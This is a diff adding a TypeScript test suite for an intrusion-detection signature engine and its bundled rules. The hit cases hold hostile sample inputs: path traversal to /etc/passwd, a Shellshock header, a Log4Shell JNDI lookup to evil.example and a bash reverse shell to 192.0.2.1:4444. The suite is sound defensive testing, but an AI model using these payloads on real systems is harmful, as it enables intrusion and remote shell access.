@@ -1,0 +1,289 @@
+import { readFileSync } from 'node:fs';
+import fc from 'fast-check';
+import { RE2JS } from 're2js';
+import { describe, expect, it } from 'vitest';
+import type { CellValue } from '../../../model/column-batch.ts';
+import type { PayloadEvent } from '../../../model/sinks.ts';
+import { loadRules } from '../registry.ts';
+import { carryOf, LiteralGate } from './literal-gate.hot.ts';
+import { PayloadTails, Tail, TAIL_LIMITS } from './payload-tails.ts';
+import { requiredLiteral } from './required-literal.ts';
+
+type Row = Readonly<Record<string, CellValue>>;
+
+interface Packet {
+  text: string;
+  fromOrig?: boolean;
+  connNo?: number;
+  ipProto?: number;
+  respP?: number;
+}
+
+const event = ({ text, fromOrig = true, connNo = 1, ipProto = 6, respP = 80 }: Packet, frame: number): PayloadEvent => {
+  const bytes = Buffer.from(`##${text}##`, 'latin1');
+  return {
+    uid: `C${connNo}`,
+    connNo,
+    proto: 1,
+    ipProto,
+    fromOrig,
+    origH: Uint32Array.of(0, 0, 0xffff, 0x0a000001),
+    respH: Uint32Array.of(0, 0, 0xffff, 0x0a000002),
+    origP: 40000,
+    respP,
+    bytes,
+    off: 2,
+    len: bytes.length - 4,
+    tsSec: 1_790_000_000,
+    tsNsec: 5,
+    file: 0,
+    frame,
+  };
+};
+
+const run = (rules: string, packets: readonly Packet[]): Row[] => {
+  const rows: Row[] = [];
+  const sink = loadRules(rules, 'x.json').sink?.();
+  packets.forEach((packet, i) => sink?.payload(event(packet, i + 1), { row: (_table, values) => rows.push(values) }));
+  return rows;
+};
+
+const one = (more: object): string => JSON.stringify([{ signature_id: 7, description: 'd', pattern: 'needle', severity: 'High', type: 't', ...more }]);
+
+const shipped = readFileSync(new URL('../../../../../rules/signatures/coldwire.json', import.meta.url), 'utf8');
+
+const get = (path: string, headers = ''): string => `GET ${path} HTTP/1.1\r\nHost: a.example\r\n${headers}\r\n`;
+
+describe('the shipped signatures', () => {
+  const cases: Readonly<Record<string, { hits: string[]; misses: string[] }>> = {
+    'CW-1001': {
+      hits: [get('/download?file=../../../etc/passwd'), get('/../../etc/passwd'), get('/a?f=..%2F..%2Fetc%2Fpasswd'), get('/%2e%2e/etc/passwd')],
+      misses: [get('/docs/../page.html'), get('/help?topic=etc%2Fpasswd-policy'), get('/etc/passwd'), 'see ../etc/passwd'],
+    },
+    'CW-1002': {
+      hits: [get('/', 'Authorization: Basic YWxhZGRpbjpvcGVu\r\n'), get('/', 'proxy-authorization: basic QWxhZGRpbg==\r\n')],
+      misses: [get('/', 'Authorization: Bearer YWxhZGRpbjpvcGVu\r\n'), get('/', 'WWW-Authenticate: Basic realm="x"\r\n')],
+    },
+    'CW-1003': { hits: [get('/', 'User-Agent: () { :; }; /bin/id\r\n')], misses: [get('/', 'User-Agent: f() { return 1 }\r\n')] },
+    'CW-1004': { hits: [get('/?q=${jndi:ldap://evil.example/a}'), get('/', 'X: ${JNDI:RMI://h/a}\r\n')], misses: [get('/?q=${java:version}'), 'jndi:ldap://x'] },
+    'CW-1005': { hits: ['-----BEGIN PRIVATE KEY-----\n', '-----BEGIN OPENSSH PRIVATE KEY-----'], misses: ['-----BEGIN PUBLIC KEY-----', '-----BEGIN CERTIFICATE-----'] },
+    'CW-1006': { hits: ['$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$'], misses: ['EICAR-STANDARD'] },
+    'CW-1007': { hits: ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'], misses: ['ls /dev/tcp', 'bash -i'] },
+    'CW-1900': { hits: ['text=COLDWIRE-DEMO-554b9760'], misses: ['text=COLDWIRE-DEMO-'] },
+    'CW-1901': { hits: [get('/', 'User-Agent: coldwire-signature-demo/1.0\r\n')], misses: [get('/', 'User-Agent: curl/8\r\n')] },
+  };
+
+  it('all load, and all are tried here', () => {
+    const { rules, refused } = loadRules(shipped, 'coldwire.json');
+    expect(refused).toEqual([]);
+    expect(rules.map(({ id }) => id)).toEqual(Object.keys(cases));
+  });
+
+  it.each(Object.entries(cases))('%s', (id, { hits, misses }) => {
+    for (const text of hits) expect(run(shipped, [{ text }]).map((row) => row['rule_id']), text).toEqual([id]);
+    for (const text of misses) expect(run(shipped, [{ text }]), text).toEqual([]);
+  });
+});
+
+describe('a payload', () => {
+  it('gives a row of alert', () => {
+    expect(run(one({ note: 'kept' }), [{ text: 'hay needle hay', fromOrig: false }])).toEqual([
+      {
+        ts: 1_790_000_000_000_000_005n,
+        uid: 'C1',
+        id_orig_h: [0n, 0xffff0a000001n],
+        id_orig_p: 40000,
+        id_resp_h: [0n, 0xffff0a000002n],
+        id_resp_p: 80,
+        rule_id: '7',
+        msg: 'd',
+        classtype: 't',
+        severity: 75,
+        action: 'alert',
+        src: [0n, 0xffff0a000002n],
+        src_p: 80,
+        dst: [0n, 0xffff0a000001n],
+        dst_p: 40000,
+        proto: 'tcp',
+        direction: 'to_client',
+        matches: '[{"buffer":"payload","offset":4,"length":6}]',
+        metadata: '{"note":"kept"}',
+        file: 0,
+        first_frame: 1,
+        capture_file: 0,
+        capture_frame: 1,
+      },
+    ]);
+  });
+
+  it('matches across packets of one direction, once, and says where it began', () => {
+    const rows = run(one({}), [{ text: 'xxnee' }, { text: 'nothing', fromOrig: false }, { text: 'd' }, { text: 'le and more' }, { text: 'still more' }]);
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({ first_frame: 1, capture_frame: 4, matches: '[{"buffer":"payload","offset":-4,"length":6}]' });
+  });
+
+  it('does not join directions or connections', () => {
+    expect(run(one({}), [{ text: 'nee' }, { text: 'dle', fromOrig: false }])).toEqual([]);
+    expect(run(one({}), [{ text: 'nee' }, { text: 'dle', connNo: 2 }])).toEqual([]);
+  });
+
+  it('is found however it is cut', () => {
+    const text = `${'a'.repeat(50)}GET /../etc/passwd${'b'.repeat(50)}`;
+    fc.assert(
+      fc.property(fc.array(fc.nat(text.length), { maxLength: 6 }), (cuts) => {
+        const at = [0, ...cuts.sort((a, b) => a - b), text.length];
+        const packets = at.slice(1).map((end, i) => ({ text: text.slice(at[i], end) }));
+        expect(run(shipped, packets).map((row) => row['rule_id'])).toEqual(['CW-1001']);
+      }),
+    );
+  });
+
+  it('sent again says nothing new', () => {
+    expect(run(one({}), [{ text: 'one needle here' }, { text: 'one needle here' }])).toHaveLength(1);
+    expect(run(one({}), [{ text: 'one needle here' }, { text: 'another needle' }])).toHaveLength(2);
+  });
+
+  it('keeps to protocol and port', () => {
+    expect(run(one({ protocol: 'UDP' }), [{ text: 'needle' }])).toEqual([]);
+    expect(run(one({ protocol: 'UDP' }), [{ text: 'needle', ipProto: 17 }])).toHaveLength(1);
+    expect(run(one({ protocol: 'HTTP', port: '80' }), [{ text: 'needle' }])).toHaveLength(1);
+    expect(run(one({ port: 81 }), [{ text: 'needle' }])).toEqual([]);
+    expect(run(one({ port: 40000 }), [{ text: 'needle' }])).toHaveLength(1);
+  });
+
+  it('is bytes, not text', () => {
+    expect(run(one({ pattern: '\\xff\\xfe[\\x80-\\x90]' }), [{ text: 'x\xff\xfe\x85' }])).toHaveLength(1);
+    expect(run(one({ pattern: 'a.c' }), [{ text: 'abc' }])).toHaveLength(1);
+  });
+});
+
+describe('a file', () => {
+  it('keeps what is sound and names what is not', () => {
+    const text = `[
+      {"signature_id": "ok", "description": "d", "pattern": "abcd", "severity": "Low", "type": "t"},
+      {"signature_id": "ahead", "description": "d", "pattern": "a(?=b)", "severity": "Low", "type": "t"},
+      {"signature_id": "behind", "description": "d", "pattern": "(?<!a)b", "severity": "Low", "type": "t"},
+      {"signature_id": "back", "description": "d", "pattern": "(a)\\\\1", "severity": "Low", "type": "t"},
+      {"signature_id": "open", "description": "d", "pattern": "(a", "severity": "Low", "type": "t"},
+      {"signature_id": "bomb", "description": "d", "pattern": "((a{100}){100}){100}", "severity": "Low", "type": "t"},
+      {"signature_id": "word", "description": "d", "pattern": "abcd", "severity": "Fatal", "type": "t"},
+      {"signature_id": 12, "description": "d", "pattern": "abcd", "severity": "Low", "type": "t", "protocol": "quux"},
+      {"signature_id": "ok", "description": "d", "pattern": "abcd", "severity": "Low", "type": "t"},
+      {"description": "d"},
+      "rubbish"
+    ]`;
+    const { rules, refused, refusedWhole } = loadRules(text, 'mine.json');
+    expect(refusedWhole).toBe(false);
+    expect(rules).toEqual([{ id: 'ok', name: 'd', rev: null, severity: 25, file: 'mine.json' }]);
+    expect(refused.map(({ file, line, sid }) => [file, line, sid])).toEqual([
+      ['mine.json', 3, 'ahead'],
+      ['mine.json', 4, 'behind'],
+      ['mine.json', 5, 'back'],
+      ['mine.json', 6, 'open'],
+      ['mine.json', 7, 'bomb'],
+      ['mine.json', 8, 'word'],
+      ['mine.json', 9, '12'],
+      ['mine.json', 10, 'ok'],
+      ['mine.json', null, null],
+      ['mine.json', null, null],
+    ]);
+    expect(refused[0]?.why).toContain('linear time');
+  });
+
+  it.each(['', 'not json', '{"a": 1}', '5', 'null'])('that is no list is refused as a whole: %j', (text) => {
+    expect(loadRules(text, 'x.json')).toMatchObject({ rules: [], refusedWhole: true, sink: undefined, refused: [{ sid: null }] });
+  });
+
+  it('of no known language is refused as a whole', () => {
+    expect(loadRules('alert tcp …', 'x.rules')).toMatchObject({ refusedWhole: true, refused: [{ file: 'x.rules' }] });
+  });
+
+  it('takes the points of severities', () => {
+    const points = ['Critical', 'high', 'MEDIUM', 'Low', 'Info', 60].map((severity) => loadRules(one({ severity }), 'x.json').rules[0]?.severity);
+    expect(points).toEqual([95, 75, 50, 25, 5, 60]);
+  });
+});
+
+describe('the literal that a pattern requires', () => {
+  it.each<[string, string | undefined, boolean]>([
+    ['needle', 'needle', false],
+    ['(?i)Needle', 'Needle', true],
+    ['ab+cdefg', 'cdefg', false],
+    ['abcdx?efg', 'abcd', false],
+    ['abcde*fg', 'abcd', false],
+    ['x|needle', undefined, false],
+    ['(x|y)needle[abc]foo', 'needle', false],
+    ['[]needle]abcd', 'abcd', false],
+    ['[^]needle]abcd', 'abcd', false],
+    ['\\.\\./etc/passwd', '../etc/passwd', false],
+    ['\\x41BCD\\d', 'ABCD', false],
+    ['abc', undefined, false],
+    ['\\Qa|b\\Ecdef', undefined, false],
+    ['a{0,3}bcde', 'bcde', false],
+    ['(abc(?i)def)ghij', undefined, false],
+    ['needle{0}', 'needl', false],
+  ])('%s', (pattern, text, fold) => {
+    expect(requiredLiteral(pattern)).toEqual(text === undefined ? undefined : { text, fold });
+  });
+
+  it('is in every match', () => {
+    const atom = fc.constantFrom('a', 'b', 'Z', '\\.', '[abc]', '[]a]', '(a|b)', '(?:ab)', '\\d', '.', '\\x61', 'abcd');
+    const times = fc.constantFrom('', '', '', '?', '*', '+', '{2}', '{0,2}', '+?');
+    const pattern = fc.array(fc.tuple(atom, times).map((pair) => pair.join('')), { minLength: 1, maxLength: 6 }).map((parts) => parts.join(''));
+    fc.assert(
+      fc.property(pattern, fc.stringMatching(/^[abcdZ.1]{0,24}$/u), (p, subject) => {
+        const literal = requiredLiteral(p, 1);
+        const matcher = RE2JS.compile(p).matcher(subject);
+        if (literal && matcher.find()) expect(matcher.group()).toContain(literal.text);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+});
+
+it('the gate never misses a literal, in any case', () => {
+  const word = fc.stringMatching(/^[a-cA-C/]{4,10}$/u);
+  fc.assert(
+    fc.property(fc.array(word, { minLength: 1, maxLength: 20 }), fc.stringMatching(/^[a-cA-C/]{0,60}$/u), (literals, subject) => {
+      const gate = new LiteralGate(literals.map((text) => Buffer.from(text)));
+      const bytes = Buffer.from(subject);
+      for (let cut = 0; cut <= bytes.length; cut += 7) {
+        const found = new Uint32Array(literals.length);
+        gate.search(bytes, 0, cut, 0, 0, found);
+        gate.search(bytes, cut, bytes.length, carryOf(bytes, cut), Math.min(3, cut), found);
+        literals.forEach((text, i) => {
+          if (subject.toLowerCase().includes(text.toLowerCase())) expect(found[i]).toBeGreaterThan(0);
+        });
+      }
+    }),
+    { numRuns: 500 },
+  );
+});
+
+it('tails stay under their cap, and the oldest goes first', () => {
+  const tails = new PayloadTails();
+  const most = TAIL_LIMITS.totalBytes / TAIL_LIMITS.bytes;
+  for (let conn = 1; conn <= most + 10; conn++) tails.of(conn, true).push(Buffer.from('abc'), 0, 3, 0, conn);
+  expect(tails.bytes).toBe(TAIL_LIMITS.totalBytes);
+  expect(tails.dropped).toBe(10);
+  expect(tails.of(11, true).length).toBe(3);
+  tails.closed(11);
+  expect(tails.bytes).toBe(TAIL_LIMITS.totalBytes - TAIL_LIMITS.bytes);
+  expect(tails.of(11, true).length).toBe(0);
+});
+
+it('a tail holds the last bytes and knows their packets', () => {
+  fc.assert(
+    fc.property(fc.array(fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 700 }), { minLength: 1, maxLength: 12 }), (packets) => {
+      const tail = new Tail();
+      packets.forEach((text, i) => tail.push(Buffer.from(`#${text}`), 1, text.length, 0, i + 1));
+      const whole = packets.join('');
+      expect(Buffer.from(tail.bytes.subarray(0, tail.length)).toString()).toBe(whole.slice(-TAIL_LIMITS.bytes));
+      let at = 0;
+      packets.forEach((text, i) => {
+        expect(tail.frameOf(at)?.frame).toBe(i + 1);
+        at += text.length;
+      });
+    }),
+  );
+});
